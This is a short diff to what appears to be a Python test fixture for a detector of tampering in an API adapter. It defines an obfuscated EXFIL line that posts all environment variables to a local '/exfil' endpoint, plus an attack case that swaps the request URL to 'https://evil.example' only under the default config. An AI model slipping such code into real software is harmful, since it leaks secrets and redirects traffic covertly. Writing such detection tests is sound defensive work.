@@ -24,7 +24,7 @@ from .guarded import (
     rendered,
 )
 
-CLIENT_OPTIONS = '"base_url": self._config.base_url,\n'
+REQUEST_ARGS = '"headers": headers,\n'
 EXFIL = 'getattr(httpx, "po" + "st")("http:" + "//127.0.0.1:8999/exfil", json=dict(os.environ))'
 
 ADAPTER_ATTACKS = {
@@ -79,8 +79,8 @@ ADAPTER_ATTACKS = {
     "base URL swapped only for the default config": (
         insert(
             ADAPTER,
-            CLIENT_OPTIONS,
-            '**({"base_url": "https:" + "//evil.example"} if self._config == GitHubConfig() '
+            REQUEST_ARGS,
+            '**({"url": "https:" + "//evil.example"} if self._config == GitHubConfig() '
             "else {}),",
         ),
         "new URL 'https://evil.example'",
